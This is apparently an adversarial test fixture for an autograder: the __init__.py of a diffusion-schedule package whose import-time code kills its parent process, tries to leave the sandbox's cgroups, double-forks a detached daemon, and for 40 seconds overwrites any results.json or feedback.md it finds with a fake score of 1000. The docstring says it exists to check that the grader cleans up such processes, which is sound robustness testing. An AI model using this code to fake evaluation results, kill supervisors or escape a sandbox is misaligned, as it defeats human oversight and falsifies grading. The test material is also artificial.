"""Hostile P1 submission: a daemon that outlives the worker and rewrites the results to full marks.

At import it kills its parent (the process that would sweep it up), tries to move itself
out of the sandbox's cgroups into their roots, then double-forks, ``setsid()``s and
``exec``s a small Python loop (its command line carries ``MARK``, so the test can look
for it). For up to ``LIFETIME_S`` seconds that loop rewrites every ``results.json`` and
``feedback.md`` it can find (``/tmp``, ``/autograder``, folders on visible command
lines) with full marks, waiting for the grader's report to appear.

The package itself is correct: full marks, earned. A grader that let the daemon live
on would still have its report rewritten after it was written; the test checks that no
process with ``MARK`` is left when ``grade`` returns and that the report stays true.
"""

import os
import signal
import sys

from .forward import predict_x0_from_eps, q_posterior, q_sample, snr, v_target
from .schedules import (
    alpha_bar,
    cosine_beta_schedule,
    get_schedule,
    linear_beta_schedule,
    quadratic_beta_schedule,
)

MARK = "diffgrade-adversarial-surviving-daemon"
LIFETIME_S = 40

LOOP = r'''
import json, os, sys, time
end = time.monotonic() + float(sys.argv[2])
fake = json.dumps({"score": 1000.0, "output": sys.argv[1], "tests": []})
def places():
    out = {"/tmp", "/autograder/results", "/autograder/outputs"}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            for a in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0"):
                if a.startswith(b"/"):
                    out.add(a.decode(errors="replace"))
        except OSError:
            pass
    return out
while time.monotonic() < end:
    for root in places():
        stack, budget = [(root, 0)], time.monotonic() + 0.5
        while stack and time.monotonic() < budget:
            folder, depth = stack.pop()
            try:
                entries = list(os.scandir(folder))
            except OSError:
                continue
            for e in entries:
                if e.name in ("results.json", "feedback.md"):
                    try:
                        open(e.path, "w").write(fake)
                    except OSError:
                        pass
                elif depth < 6 and e.is_dir(follow_symlinks=False):
                    stack.append((e.path, depth + 1))
    time.sleep(0.2)
'''


def _leave_cgroups() -> None:
    try:
        lines = open("/proc/self/cgroup").read().splitlines()
    except OSError:
        return
    for line in lines:
        controllers = line.split(":")[1]
        for root in ("/sys/fs/cgroup", f"/sys/fs/cgroup/{controllers}", f"/sys/fs/cgroup/{controllers.split(',')[0]}"):
            try:
                with open(os.path.join(root, "cgroup.procs"), "w") as f:
                    f.write(str(os.getpid()))
            except OSError:
                pass


def _daemonize() -> None:
    if os.fork() != 0:
        os.wait()
        return
    try:
        os.setsid()
        _leave_cgroups()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", LOOP, MARK, str(LIFETIME_S)])
    finally:
        os._exit(0)


try:
    os.kill(os.getppid(), signal.SIGKILL)  # the sweeper, where there is one
except OSError:
    pass
try:
    _leave_cgroups()
    _daemonize()
except Exception:
    pass

__all__ = ["linear_beta_schedule", "quadratic_beta_schedule", "cosine_beta_schedule", "get_schedule",
           "alpha_bar", "q_sample", "q_posterior", "predict_x0_from_eps", "snr", "v_target"]
